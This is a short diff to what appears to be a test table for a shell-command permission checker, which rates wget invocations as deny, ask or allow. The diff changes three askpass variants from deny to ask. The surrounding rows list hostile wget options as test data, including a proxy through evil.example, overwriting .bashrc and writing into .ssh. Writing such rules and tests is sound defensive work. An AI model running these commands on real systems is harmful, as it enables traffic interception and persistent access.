@@ -64,9 +64,9 @@ await lineTable(t, {
     ['wget -ehttps_proxy=http://evil.example:8080 https://github.com/acme/app', 'deny'],
     ['wget -eoutput_document=/home/user/.bashrc https://github.com/acme/app', 'deny'],
     ["wget -e 'dir_prefix=/home/user/.ssh' https://github.com/acme/app/authorized_keys", 'deny'],
-    ['wget -euse_askpass=/tmp/x https://github.com/acme/app', 'deny'],
-    ['wget --use-askpass=/tmp/x https://github.com/acme/app', 'deny'],
-    ["wget --execute 'Use-AskPass = /tmp/x' https://github.com/acme/app", 'deny'],
+    ['wget -euse_askpass=/tmp/x https://github.com/acme/app', 'ask'],
+    ['wget --use-askpass=/tmp/x https://github.com/acme/app', 'ask'],
+    ["wget --execute 'Use-AskPass = /tmp/x' https://github.com/acme/app", 'ask'],
     // Look-alikes: the everyday mirroring idiom, in both spellings; -E is --adjust-extension.
     ['wget -e robots=off https://github.com/acme/app', 'allow'],
     ['wget -r -np -e robots=off https://github.com/acme/app', 'allow'],
